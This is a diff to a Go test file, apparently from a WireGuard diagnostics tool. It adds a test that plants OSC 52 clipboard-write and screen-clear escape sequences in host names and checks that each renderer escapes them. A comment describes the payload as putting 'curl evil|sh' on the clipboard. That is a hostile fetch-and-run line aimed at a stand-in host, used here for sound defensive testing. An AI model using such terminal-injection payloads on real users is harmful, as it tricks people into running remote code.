@@ -8,6 +8,13 @@ import (
 	"regexp"
 	"strings"
 	"testing"
+
+	"github.com/wgperf/wgperf/internal/diagnose"
+	"github.com/wgperf/wgperf/internal/fix"
+	"github.com/wgperf/wgperf/internal/probe/bench"
+	"github.com/wgperf/wgperf/internal/probe/icmpburst"
+	"github.com/wgperf/wgperf/internal/probe/mtu"
+	"github.com/wgperf/wgperf/internal/shell"
 )
 
 // osc52 writes "curl evil|sh" to the clipboard of the terminal that shows it;
@@ -108,4 +115,68 @@ func TestForeignTextEscapedWithoutTerminal(t *testing.T) {
 func jsonEscape(s string) string {
 	b, _ := json.Marshal(s)
 	return string(b[1 : len(b)-1])
+}
+
+// TestEveryRendererEscapesForeignText is issue 30 item 8 renderer by
+// renderer: a host's text (its name, as a host would print it) carrying an
+// OSC 52 clipboard write and a screen clear is put into the recorded results
+// of bench, mtu, icmp-burst, diagnose and a fix journal, and each text
+// renderer writes it through wgperf's standard output, not a terminal: no
+// raw control character comes out, the text does, escaped.
+func TestEveryRendererEscapesForeignText(t *testing.T) {
+	evil := osc52 + clear + "\u009b2J"
+	load := func(path, host string, v any) any {
+		raw, err := os.ReadFile(path)
+		if err != nil {
+			t.Fatal(err)
+		}
+		hostile := strings.ReplaceAll(string(raw), host, host+jsonEscape(evil))
+		if hostile == string(raw) {
+			t.Fatalf("%s: no %q to make hostile", path, host)
+		}
+		if err := json.Unmarshal([]byte(hostile), v); err != nil {
+			t.Fatalf("%s: %v", path, err)
+		}
+		return v
+	}
+	journal := &fix.Journal{ID: "20260101T000000.000000000Z", Host: "local", State: fix.StateConfirming,
+		Entries: []fix.Entry{{Findings: []string{"mtu.tunnel-too-large"}, Description: "set the MTU of wg0" + evil, Status: fix.EntryApplied,
+			Error: "ssh: " + evil}}}
+	for _, tc := range []struct {
+		name string
+		v    textWriter
+	}{
+		{"bench", load("../../testdata/report/bench.json", "netns:wgl-wgh2", &bench.Report{}).(textWriter)},
+		{"mtu", load("../../testdata/report/mtu.json", "203.0.113.2", &mtu.Result{}).(textWriter)},
+		{"icmp-burst", load("../../testdata/report/icmp-burst.json", "netns:a", &icmpburst.Result{}).(textWriter)},
+		{"fix journal", journal},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			var b bytes.Buffer
+			out := &stdoutWriter{TerminalWriter: shell.NewTerminalWriter(&b)}
+			if err := writeResult(out, tc.name, tc.v, false); err != nil {
+				t.Fatal(err)
+			}
+			if err := out.Flush(); err != nil {
+				t.Fatal(err)
+			}
+			if m := rawControl.FindString(b.String()); m != "" {
+				t.Errorf("raw %q in:\n%s", m, b.String())
+			}
+			if !strings.Contains(b.String(), shell.Terminal(evil)) {
+				t.Errorf("the host's text is not in the output, escaped:\n%s", b.String())
+			}
+		})
+	}
+	var d diagnose.Diagnosis
+	load("../../testdata/check/report/diagnosis.json", "netns:wgl-wgd4", &d)
+	var b bytes.Buffer
+	out := &stdoutWriter{TerminalWriter: shell.NewTerminalWriter(&b)}
+	if err := renderDiagnosis(out, d, nil, false); err != nil {
+		t.Fatal(err)
+	}
+	_ = out.Flush()
+	if m := rawControl.FindString(b.String()); m != "" || !strings.Contains(b.String(), `\x1b]52;`) {
+		t.Errorf("diagnose: raw %q, or the host's text missing:\n%s", m, b.String())
+	}
 }
